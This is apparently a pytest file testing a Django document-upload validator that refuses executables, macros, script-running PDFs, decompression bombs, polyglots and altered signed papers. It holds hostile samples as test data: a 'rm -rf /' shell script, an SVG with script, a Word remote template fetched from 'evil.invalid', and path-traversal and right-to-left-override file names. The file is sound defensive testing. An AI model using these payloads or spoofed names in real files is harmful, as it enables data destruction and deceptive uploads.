"""Files as they come from outside: what is taken, what is refused and in which words, and what is left behind."""

from pathlib import Path

import pytest
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from documents.domain import UploadLimits, read_file, receive_upload
from documents.domain.refusals import KINDS
from documents.engines import demo_pki
from documents.enums import ScanState, SignatureState
from documents.errors import UploadRejectedError
from documents.models import StoredFile
from tests.factories import files, forgeries
from tests.factories.documents import file_of, issued, printed

pytestmark = [pytest.mark.integration, pytest.mark.slow, pytest.mark.django_db]
ALL = frozenset(KINDS)
FETCHED_TEMPLATE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.invalid/a.dotm" TargetMode="External"/></Relationships>'
)
HEIC = b"\0\0\0\x18ftypheic" + bytes(200)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def word_bomb() -> bytes:
    return files.word_file_with("word/a.xml", bytes(210 * 1024 * 1024))


# What is sent → the reason for which it is refused, and a word of the sentence that says so.
REFUSED = {
    "nothing": (b"", "empty", "rỗng"),
    "a program called PDF": (files.PROGRAM, "program", "chương trình"),
    "a program for Linux": (b"\x7fELF" + bytes(200), "program", "chương trình"),
    "a script": (b"#!/bin/sh\nrm -rf /\n", "program", "chương trình"),
    "a web page": (b"<!DOCTYPE html><html></html>", "type", "PDF"),
    "an SVG": (SVG, "type", "PDF"),
    "an HEIC photo": (HEIC, "type", "HEIC"),
    "a TIFF scan": (files.picture("TIFF"), "type", "TIFF"),
    "an old Office file": (b"\xd0\xcf\x11\xe0" + bytes(600), "type", "Office"),
    "a packed folder": (files.zipped(("a.pdf", files.small_pdf())), "type", "nén"),
    "a folder packed in a folder": (files.zipped(("b.zip", files.zipped(("a", b"1")))), "type", "nén"),
    "random bytes": (bytes(range(256)) * 9, "type", "PDF"),
    "a PDF cut off": (files.small_pdf()[:300], "corrupt", "hỏng"),
    "a PDF for slow lines cut off": (files.linearised_pdf()[:-4000], "corrupt", "hỏng"),
    "a PDF of no objects": (b"%PDF-1.7\n%%EOF\n", "corrupt", "hỏng"),
    "a PDF behind a password": (files.locked_pdf(), "encrypted", "mật khẩu"),
    "a PDF with restrictions": (files.locked_pdf(to_open=False), "encrypted", "mật khẩu"),
    "a PDF that runs a script": (files.pdf_with_script(), "active", "tự chạy"),
    "a PDF that starts a program": (files.pdf_that_launches(), "active", "tự chạy"),
    "a PDF carrying a program": (files.pdf_carrying(files.PROGRAM), "program_inside", "bên trong"),
    "a PDF of eleven pages": (files.small_pdf(pages=11), "pages", "10"),
    "a PDF that is a ZIP as well": (files.small_pdf() + files.zipped(("a", b"1")), "mixed", "hai loại"),
    "a PDF behind a web page": (b"<html>" + b" " * 20 + files.small_pdf(), "mixed", "hai loại"),
    "a picture that is a ZIP as well": (files.picture("PNG") + files.zipped(("a", b"1")), "mixed", "hai loại"),
    "a picture cut off": (files.picture("JPEG", (900, 900))[:-2000], "corrupt", "hỏng"),
    "a picture of 900 million pixels": (files.png_bomb, "pixels", "quá lớn"),
    "a PDF with a giant picture": (files.pdf_with_huge_picture(), "pixels", "quá lớn"),
    "a PDF that unpacks for ever": (files.pdf_bomb, "bomb", "an toàn"),
    "a Word file with macros": (files.word_file_with("word/vbaProject.bin", b"x"), "macros", "macro"),
    "a Word file with an object": (files.word_file_with("word/embeddings/oleObject1.bin", b"x"), "program_inside", "bên trong"),
    "a Word file that fetches": (files.word_file_with("word/_rels/settings.xml.rels", FETCHED_TEMPLATE), "active", "tự chạy"),
    "a Word file that unpacks for ever": (word_bomb, "bomb", "an toàn"),
}  # fmt: skip


def sent(content: bytes, name: str = "giấy tờ.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, "application/pdf")


def limits(**changes: object) -> UploadLimits:
    facts = {"max_bytes": 20 * 1024 * 1024, "max_pages": 10, "accept": ALL, "max_pixels": 100_000_000, **changes}
    return UploadLimits(**facts)


def stored_bytes() -> list[Path]:
    return sorted(path for path in Path(storages["records"].location).rglob("*") if path.is_file())


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_a_bad_file_is_refused_with_its_reason_and_nothing_of_it_is_kept(db, case):
    made, code, word = REFUSED[case]
    content = made() if callable(made) else made
    before = stored_bytes()
    with pytest.raises(UploadRejectedError) as refused:
        receive_upload(sent(content), limits=limits())
    assert refused.value.code == f"upload.{code}"
    with translation.override("vi"):
        assert word in str(refused.value)
    assert (StoredFile.objects.count(), stored_bytes()) == (0, before)


def test_a_file_over_the_limit_is_refused_before_it_is_read(db):
    with pytest.raises(UploadRejectedError) as refused:
        receive_upload(sent(files.small_pdf()), limits=limits(max_bytes=100))
    assert refused.value.code == "upload.too_large"


def test_a_kind_that_this_paper_does_not_take_is_refused_by_the_name_of_what_it_takes(db):
    with pytest.raises(UploadRejectedError) as refused, translation.override("en"):
        receive_upload(sent(files.word_file()), limits=limits(accept=frozenset({"pdf"})))
    with translation.override("en"):
        assert str(refused.value) == "This kind of file is not accepted here. Send a PDF file."


@pytest.mark.parametrize(
    ("content", "name", "is_kept_as"),
    [
        (files.small_pdf(pages=3), "Sổ đỏ.pdf", ("Sổ đỏ.pdf", "application/pdf", 3)),
        (files.picture("JPEG"), "ảnh.PDF", ("ảnh.jpg", "image/jpeg", 1)),
        (files.picture("PNG"), "../../x.exe", ("x.png", "image/png", 1)),
        (b"\xef\xbb\xbf" + files.small_pdf(), "a\u202efdp.exe", ("afdp.pdf", "application/pdf", 1)),
        (files.linearised_pdf(9), "", ("tệp.pdf", "application/pdf", 9)),
    ],
    ids=["pdf", "a JPEG called PDF", "a PNG called EXE", "a mark before the PDF", "for slow lines, no name"],
)
def test_a_sound_file_is_kept_as_what_it_is(db, content, name, is_kept_as):
    upload = sent(content)
    upload._name = name  # as a form gives it, untouched
    file = receive_upload(upload, limits=limits())
    assert (file.name, file.content_type, file.pages, file.size) == (*is_kept_as, len(content))
    assert (file.scan_state, file.signature_state) == (ScanState.NOT_SCANNED, SignatureState.UNSIGNED)
    assert read_file(file) == content


def test_what_an_officer_should_know_of_a_file_is_noted(db):
    photo = receive_upload(sent(files.picture(gps=True)), limits=limits())
    with translation.override("en"):
        assert (photo.checks["active"], photo.remarks) == (["place"], ["The photo tells where it was taken"])
        assert StoredFile(checks={"repaired": True, "active": ["xfa", "unheard of"]}).remarks == [
            "A form that some programs do not show",
            "Slightly damaged; look whether every page is there",
        ]
    assert receive_upload(sent(files.pdf_carrying(b"{}", "a.json")), limits=limits()).checks["active"] == [
        "embedded_files"
    ]


def test_a_paper_we_issued_comes_back_as_signed_and_trusted(town):
    file = receive_upload(sent(file_of(issued(town))), limits=limits())
    assert (file.signature_state, file.checks["active"]) == (SignatureState.TRUSTED, ["embedded_files"])


def test_a_signed_file_that_was_changed_is_refused_and_a_stranger_s_signature_is_noted(town, settings, tmp_path):
    page = file_of(printed(town), "rendered")
    with pytest.raises(UploadRejectedError) as refused:
        receive_upload(sent(forgeries.with_note(file_of(issued(town, "receipt")))), limits=limits())
    assert refused.value.code == "upload.signature_broken"
    ours = settings.EGOV_SIGNING
    demo_pki.make_authorities(tmp_path)
    settings.EGOV_SIGNING = {**ours, "KEYS_DIR": tmp_path, "TRUST": tmp_path / "trust.pem"}
    foreign = forgeries.sign_with(page, forgeries.credential_in(tmp_path, "Công ty Phước Thịnh"))
    settings.EGOV_SIGNING = ours
    assert receive_upload(sent(foreign), limits=limits()).signature_state == SignatureState.UNTRUSTED
